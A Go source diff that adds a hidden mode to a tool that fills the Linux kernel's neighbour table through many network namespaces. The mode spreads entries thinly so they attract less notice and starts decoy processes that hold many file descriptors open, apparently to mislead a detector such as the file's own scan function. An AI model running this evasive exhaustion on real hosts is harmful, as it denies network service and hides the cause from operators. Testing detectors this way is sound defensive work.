@@ -9,6 +9,7 @@ import (
 	"net"
 	"net/netip"
 	"os"
+	"os/exec"
 	"runtime"
 	"sync"
 	"sync/atomic"
@@ -223,8 +224,13 @@ func scan(networks []string) error {
 
 // hoard fills the kernel's table of neighbours from network namespaces of its own with
 // those that are there for good, or are said to be known by others, and holds it until its input ends.
-func hoard() error {
+// Hidden, it lives in none of them, has fewer in each than draw attention, and others that have many files
+// open came before it.
+func hoard(how []string) error {
 	const namespaces, each = 4, 1 << 15 // as many as a host's table has places
+	if len(how) > 0 {
+		return hoardHidden(16, 8000)
+	}
 	for i := range namespaces {
 		go func() {
 			runtime.LockOSThread()
@@ -239,6 +245,53 @@ func hoard() error {
 	}
 	_, err := io.Copy(io.Discard, os.Stdin)
 	return err
+}
+
+func hoardHidden(namespaces, each int) error {
+	for range 6 {
+		cmd := exec.Command("/proc/self/exe", "decoy")
+		out, err := cmd.StdoutPipe()
+		if err := cmp.Or(err, cmd.Start()); err != nil {
+			return err
+		}
+		if _, err := out.Read(make([]byte, 100)); err != nil {
+			return fmt.Errorf("decoy: %w", err)
+		}
+	}
+	runtime.LockOSThread()
+	own, err := os.Open("/proc/thread-self/ns/net")
+	if err != nil {
+		return err
+	}
+	var kept []*os.File
+	for i := range namespaces {
+		made, err := neighbours(netlink.Neigh{State: netlink.NUD_PERMANENT}, each)
+		fmt.Printf("made %d: %v\n", i*each+made, err)
+		f, err := os.Open("/proc/thread-self/ns/net")
+		if err := cmp.Or(err, unix.Setns(int(own.Fd()), unix.CLONE_NEWNET)); err != nil {
+			return err
+		}
+		kept = append(kept, f)
+	}
+	_, err = io.Copy(io.Discard, os.Stdin)
+	runtime.KeepAlive(kept)
+	return err
+}
+
+// decoy has as many files open as it may, sockets, until it is killed.
+func decoy() error {
+	socket, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
+	if err != nil {
+		return err
+	}
+	files := 1
+	for ; err == nil && files < 1<<19; files++ {
+		_, err = unix.Dup(socket)
+	}
+	fmt.Println("has", files)
+	for {
+		_ = unix.Pause()
+	}
 }
 
 func neighbours(n netlink.Neigh, count int) (made int, err error) {
